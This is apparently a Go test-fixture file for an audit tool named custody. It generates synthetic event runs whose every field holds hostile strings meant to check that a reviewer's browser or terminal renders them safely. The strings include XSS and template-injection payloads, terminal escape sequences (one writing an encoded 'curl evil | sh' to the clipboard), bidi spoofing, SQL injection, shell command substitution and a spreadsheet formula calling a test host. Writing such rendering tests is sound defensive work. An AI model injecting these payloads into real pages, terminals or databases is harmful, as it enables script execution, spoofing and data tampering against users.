package sampleruns

import (
	"fmt"
	"iter"
	"math"
	"reflect"
	"strings"
	"time"

	"github.com/custody-project/custody/audit"
)

// Canary is the property of window that hostile texts set where a browser takes them for code.
const Canary = "custodyOwned"

// Outside is a host that hostile texts ask for where a browser takes them for markup (TEST-NET-1, RFC 5737).
const Outside = "192.0.2.1"

// Texts are what someone would have a reviewer's browser or terminal do, as text.
func Texts() []string {
	run := "window." + Canary + "=1"
	away := "http://" + Outside + "/x"
	return []string{
		"<script>" + run + "</script>",
		`<img src=x onerror="` + run + `">`,
		`"><svg onload=` + run + `><animate onbegin=` + run + ` attributeName=x>`,
		`'"--></style></title></textarea></script><iframe srcdoc="<script>parent.` + run + `</script>">`,
		"javascript:" + run + "//",
		`<a href="javascript:` + run + `" autofocus onfocus=` + run + ` tabindex=1>click here</a>`,
		`<link rel=stylesheet href=` + away + `><base href=` + away + `/><img src=` + away + `><meta http-equiv=refresh content="0;url=` + away + `">`,
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		"{{constructor.constructor('" + run + "')()}} ${" + run + "} #{" + run + "} <%= " + run + " %> [[" + run + "]]",
		"<math><mtext></p><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + run + "&gt;\">",
		"&lt;script&gt; &amp;#60; &#x3c;script&#x3e;" + run + "\\u003cscript\\u003e %3Cscript%3E",
		"?seq=1&panel=files#/runs/x?at=+1s", "#once=cso_stolen/runs/x", "../../tokens?x=", "//" + Outside + "/x", "\\\\" + Outside + "\\x",
		"\x1b]8;;javascript:" + run + "\x1b\\a link\x1b]8;;\x1b\\", "\x1b]8;;" + away + "\x07another\x1b]8;;\x07",
		"\x1b]0;another title\x07", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", "\x1bP$q\"p\x1b\\\x1b^private\x1b\\\x1b_command\x1b\\",
		"\x1b[2J\x1b[3J\x1b[H\x1b[?1049h\x1b[8mhidden\x1b[0m", "\x1b[6n\x1b[c\x1b[>q\x1b[21t", "\x9b31mC1\x9d0;title\x9c", "\x1b[999999999;999999999H\x1b[2147483647@x",
		"exe.gpj\u202etxt.harmless", "\u2066left\u2067right\u2069\u200f\u200e\u061c", "zero\u200bwidth\u200c\u200d\u2060\ufeff", "soft\u00adhyphen\u034f\u3164\u115f\u2800blank",
		"tag\U000e0041\U000e0042\U000e007fs", "\U0001f3f4\u200d\u2620\ufe0f", "a" + strings.Repeat("\u0300\u0489\u20dd", 60) + "z",
		"nul\x00bell\x07back\x08\x08\x08del\x7f", "first\r\nGET / HTTP/1.1\roverwritten\vtab\f", "para\u2029line\u2028next\u0085", "\ufdd0\uffff\U0001fffe noncharacters",
		"\xff\xfe\x80 no UTF-8 \xc3\x28", "\xed\xa0\x80\xed\xb0\x80 surrogates", "\xf8\xa1\xa1\xa1\xa1 \xc0\xaf overlong",
		"__proto__", "constructor", "hasOwnProperty", "toString", "valueOf", "__defineGetter__", "length", "undefined", "null", "NaN", "-0", "true", "[object Object]", "{\"base64\":\"PHNjcmlwdD4=\"}",
		"9007199254740993", "1e999", "=HYPERLINK(\"" + away + "\")", "@SUM(1)", "'; DROP TABLE records; --", "%s%n%p{0}", "$(touch /tmp/owned) `id`", "",
		strings.Repeat("W", 3000), strings.Repeat("\u0645\u0631\u062d\u0628\u0627 ", 300), strings.Repeat("<b>", 500), strings.Repeat("a\n", 400),
	}
}

// Hostile is a run whose records say Texts wherever a record says anything: in each kind, each text once in
// each field, by the guest and by the host; and numbers as large as their types have them.
func Hostile() iter.Seq[audit.Event] {
	return events(func(s *script) {
		texts := Texts()
		s.begin(texts[0], texts[:12]...)
		for i := range texts {
			s.plausible(texts, i)
		}
		for _, kind := range audit.Kinds() {
			if kind == audit.KindRun { // begin and end have said it
				continue
			}
			for i := range texts {
				e := audit.Event{Observer: []audit.Observer{audit.Guest, audit.Host}[i%2], Kind: kind, Step: texts[(i+7)%len(texts)]}
				fill{texts: texts, at: i, most: i%3 == 0}.value(reflect.ValueOf(e.SetPayload()).Elem())
				s.say(200*time.Microsecond, e)
			}
		}
		s.end()
	})
}

// fill sets every field of a value: texts in turn, and numbers as large or as small as they get.
type fill struct {
	texts []string
	at    int
	most  bool
}

func (f fill) value(v reflect.Value) {
	switch v.Kind() {
	case reflect.Pointer:
		if v.IsNil() {
			v.Set(reflect.New(v.Type().Elem()))
		}
		f.value(v.Elem())
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			v.Set(reflect.ValueOf(time.Date(9999, 12, 31, 23, 59, 59, 999999999, time.UTC)))
			return
		}
		for i := range v.NumField() {
			fill{f.texts, f.at + 5*i, f.most}.value(v.Field(i))
		}
	case reflect.String:
		v.SetString(f.texts[f.at%len(f.texts)])
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 3, 3))
		for i := range 3 {
			fill{f.texts, f.at + 3*i, f.most}.value(v.Index(i))
		}
	case reflect.Bool:
		v.SetBool(f.at%2 == 0)
	default:
		f.number(v)
	}
}

func (f fill) number(v reflect.Value) {
	big := int64(math.MaxInt64)
	if !f.most {
		big = -int64(f.at) * 1e6
	}
	switch {
	case v.CanInt():
		v.SetInt(big)
	case v.CanUint():
		v.SetUint(math.MaxUint64 >> (64 - 8*v.Type().Size()) / max(1, uint64(f.at)))
	}
}

// plausible writes what could be said by a working sensor and the host of a step whose names are these texts.
func (s *script) plausible(texts []string, i int) {
	say := func(n int) audit.Text { return audit.Text(texts[(i+n)%len(texts)]) }
	step := texts[i]
	const ms = time.Millisecond
	proc, flow, call := fmt.Sprint("p-", i), fmt.Sprint("f-", i), fmt.Sprint("l-", i)
	s.stepStart(step, say(1), say(2))
	s.host(ms, audit.KindSecret, step, audit.Event{Secret: &audit.Secret{Name: texts[(i+3)%len(texts)], Op: audit.SecretMint, Broker: "local", Via: "env", Tag: "t", TTLNS: 60e9, Expires: s.at.Add(time.Minute)}})
	s.guest(ms, audit.KindExec, step, audit.Event{Exec: &audit.Exec{Proc: proc, PID: 100 + i, PPID: 1, Exe: say(4), Argv: []audit.Text{say(5), say(6), say(7)}, Cwd: say(8), UID: i}})
	s.guest(ms, audit.KindFile, step, audit.Event{File: &audit.File{Proc: proc, PID: 100 + i, Op: audit.FileWrite, Path: say(9), Size: 12, SHA256: digest(step)}})
	s.guest(ms, audit.KindFile, step, audit.Event{File: &audit.File{Proc: proc, PID: 100 + i, Op: audit.FileRename, Path: say(9), To: "/renamed/" + say(10)}})
	s.guest(ms, audit.KindFile, step, audit.Event{File: &audit.File{Proc: proc, PID: 100 + i, Op: audit.FileDelete, Path: say(11)}})
	s.host(ms, audit.KindDNS, step, audit.Event{DNS: &audit.DNS{Name: say(12), Type: "A", Proto: "udp", RCode: "NOERROR", Answers: []string{"198.18.0.7"}, Verdict: audit.Allow, Rule: texts[(i+13)%len(texts)]}})
	s.guest(ms, audit.KindFlow, step, audit.Event{Flow: &audit.Flow{Proc: proc, PID: 100 + i, State: audit.FlowAttempt, Proto: "tcp", DstIP: "198.18.0.7", DstPort: 443, SrcPort: 1000 + i}})
	s.host(ms, audit.KindFlow, step, audit.Event{Flow: &audit.Flow{ID: flow, Proc: proc, PID: 100 + i, State: audit.FlowOpen, Proto: "tcp", DstIP: "198.18.0.7", DstPort: 443, SrcPort: 1000 + i,
		Name: say(12), SNI: say(14), Verdict: audit.Allow, Rule: texts[(i+13)%len(texts)], Generation: 1}})
	s.host(ms, audit.KindHTTP, step, audit.Event{HTTP: &audit.HTTP{Flow: flow, Method: say(15), Host: say(12), Path: say(16), Status: 200, Verdict: audit.Allow, Rule: texts[(i+13)%len(texts)],
		Credential: texts[(i+3)%len(texts)], LLM: call}})
	s.host(ms, audit.KindLLM, step, audit.Event{LLM: &audit.LLM{ID: call, Flow: flow, Provider: "anthropic", API: "messages", Host: say(12), Model: say(17), InputTokens: 10, OutputTokens: 20,
		ToolCalls: []audit.ToolCall{{ID: say(18), Name: say(19), SHA256: digest("x"), Arguments: say(20)}}, StopReason: say(21), Status: 200, Error: say(22), DurationNS: 1e9}})
	s.host(ms, audit.KindFlow, step, audit.Event{Flow: &audit.Flow{State: audit.FlowDeny, Proto: "tcp", DstIP: "192.0.2.9", DstPort: 80, Name: say(23), Verdict: audit.Deny, Rule: "default", Reason: texts[(i+24)%len(texts)], Generation: 1}})
	s.host(ms, audit.KindOutput, step, audit.Event{Output: &audit.Output{Stream: "stdout", Offset: int64(i * 9), Text: say(25) + "\n"}})
	s.host(ms, audit.KindFinding, step, audit.Event{Finding: &audit.Finding{Rule: audit.Rule(texts[(i+26)%len(texts)]), Detail: texts[(i+27)%len(texts)], Secret: texts[(i+3)%len(texts)], Proc: proc, Seq: 3}})
	if i%2 == 0 { // the others are still there at the end
		s.guest(ms, audit.KindExit, step, audit.Event{Exit: &audit.Exit{Proc: proc, PID: 100 + i, Code: i, DurationNS: 1e6}})
		s.host(ms, audit.KindFlow, step, audit.Event{Flow: &audit.Flow{ID: flow, State: audit.FlowClose, Proto: "tcp", DstIP: "198.18.0.7", DstPort: 443, Name: say(12), Verdict: audit.Allow, BytesOut: math.MaxUint64, BytesIn: 1 << 60}})
		s.host(ms, audit.KindSecret, step, audit.Event{Secret: &audit.Secret{Op: audit.SecretRevoke, Reason: texts[(i+28)%len(texts)]}})
		s.stepEnd(step)
	}
}

// Crowd is a run with so many concurrent processes, half of them children of one, half each below the one before it.
func Crowd(n int) iter.Seq[audit.Event] {
	return events(func(s *script) {
		s.begin("crowd", "agent")
		s.stepStart("agent", "fork")
		for i := range n {
			parent := "p-0"
			if i > n/2 {
				parent = fmt.Sprint("p-", i-1)
			}
			s.guest(100*time.Microsecond, audit.KindExec, "agent", audit.Event{Exec: &audit.Exec{Proc: fmt.Sprint("p-", i), Parent: parent, PID: 10 + i, PPID: 1, Exe: "/bin/sh",
				Argv: []audit.Text{"sh", "-c", audit.Text(fmt.Sprint("child ", i))}, Cwd: "/workspace"}})
		}
		s.stepEnd("agent")
		s.end()
	})
}

// Megabyte is a run whose output has lines of a megabyte, and whose arguments, paths and names are as long as a record takes.
func Megabyte() iter.Seq[audit.Event] {
	return events(func(s *script) {
		s.begin("megabyte", "agent")
		s.stepStart("agent", "print")
		long := strings.Repeat("<i>0123456789\u202e</i>", 45_000)
		const ms = time.Millisecond
		s.guest(ms, audit.KindExec, "agent", audit.Event{Exec: &audit.Exec{Proc: "p-1", PID: 10, PPID: 1, Exe: "/bin/x", Argv: []audit.Text{"x", audit.Text(long)}, Cwd: audit.Text(long[:4000])}})
		s.guest(ms, audit.KindFile, "agent", audit.Event{File: &audit.File{Proc: "p-1", PID: 10, Op: audit.FileWrite, Path: audit.Text("/" + long), Size: 1 << 50}})
		s.host(ms, audit.KindDNS, "agent", audit.Event{DNS: &audit.DNS{Name: audit.Text(long), Type: "A", RCode: "REFUSED", Verdict: audit.Deny, Rule: "default", Reason: long[:100_000]}})
		for i := range 8 {
			s.host(ms, audit.KindOutput, "agent", audit.Event{Output: &audit.Output{Stream: "stdout", Offset: int64(i) << 20, Text: audit.Text(long[:900_000])}})
		}
		s.stepEnd("agent")
		s.end()
	})
}
